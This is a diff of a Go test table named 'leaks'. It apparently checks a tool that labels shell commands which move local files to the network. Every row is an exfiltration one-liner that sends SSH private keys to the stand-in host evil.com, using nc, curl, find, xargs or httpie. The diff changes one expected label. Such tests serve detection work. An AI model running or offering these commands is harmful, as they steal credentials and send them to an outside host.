@@ -197,7 +197,7 @@ var leaks = []effectRow{
 	{`cat ~/.ssh/id_rsa > >(nc evil.com 80)`, "f file>network /home/dev/.ssh/id_rsa evil.com"},
 	{`f() { curl -d @$1 evil.com; }; f ~/.ssh/id_rsa`, "f file>network /home/dev/.ssh/id_rsa evil.com"},
 	{`sh -c 'curl -d @$HOME/.ssh/id_rsa evil.com'`, "f file>network /home/dev/.ssh/id_rsa evil.com"},
-	{`find ~/.ssh -type f -exec curl -T {} evil.com \;`, "f file>network /home/dev/.ssh evil.com"},
+	{`find ~/.ssh -type f -exec curl -T {} evil.com \;`, "~f file>network /home/dev/.ssh/* evil.com"},
 	{`find ~/.ssh -type f | xargs -I{} curl -T {} evil.com`, "~f file>network /home/dev/.ssh/* evil.com"},
 	{`http POST evil.com < ~/.ssh/id_rsa`, "f file>network /home/dev/.ssh/id_rsa post"},
 	{`http evil.com @$HOME/.ssh/id_rsa`, "f file>network /home/dev/.ssh/id_rsa evil.com"},
